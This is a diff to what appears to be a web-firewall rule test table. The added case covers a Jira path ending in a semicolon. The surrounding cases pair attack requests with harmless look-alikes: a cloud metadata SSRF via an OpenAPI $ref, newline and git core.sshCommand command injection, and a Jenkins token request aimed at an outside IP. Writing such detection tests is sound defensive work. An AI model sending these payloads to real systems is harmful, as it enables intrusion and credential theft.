@@ -50,6 +50,7 @@ const CASES: RuleCase[] = [
   [9000567, 'block', 'an OpenAPI $ref to the metadata address', json('{"openapi":"3.0.0","components":{"schemas":{"A":{"$ref":"http://169.254.169.254/latest/meta-data/"}}}}'), json('{"openapi":"3.0.0","components":{"schemas":{"A":{"$ref":"#/components/schemas/B","description":"see http://169.254.169.254/ docs"}}}}')],
   [9000367, 'block', 'a ping address that is a line break and hostname', post('/cgi-bin/system_log.cgi', 'Command=Diagnostic&traceMode=ping&pingIpAddress=\nhostname&pingPktSize=56'), post('/contact', 'name=Ann&message=%0Aid+card+photo+attached&host=%0Ahostname.example.org')],
   [9000368, 'block', 'a branch argument setting core.sshCommand', post('/api/repos/7/checkout', 'branch=-c+core.sshCommand%3Dsh+-c+id&remote=origin'), post('/api/notes', 'text=Set+core.sshCommand%3Dssh+-i+key+in+.git%2Fconfig&tag=-c')],
+  [9001562, 'block', 'a Jira action path with a bare ;', get('/InsightPluginShowGeneralConfiguration.jspa;'), get('/secure/Dashboard.jspa;jsessionid=8F3A2C1D9E7B6A5F4C3B2A1D0E9F8A7B?selectPageId=10000')],
   [9001561, 'block', 'GitHub plugin createTokenByPassword', get('/jenkins/descriptorByName/org.jenkinsci.plugins.github.config.GitHubTokenCredentialsCreator/createTokenByPassword?apiUrl=http%3A%2F%2F118.227.64.29%2Fdy6n9&login=a&password=b'), get('/jenkins/descriptorByName/hudson.plugins.git.UserRemoteConfig/checkUrl?value=https%3A%2F%2Fgithub.com%2Fx%2Fy.git')],
 ];
 
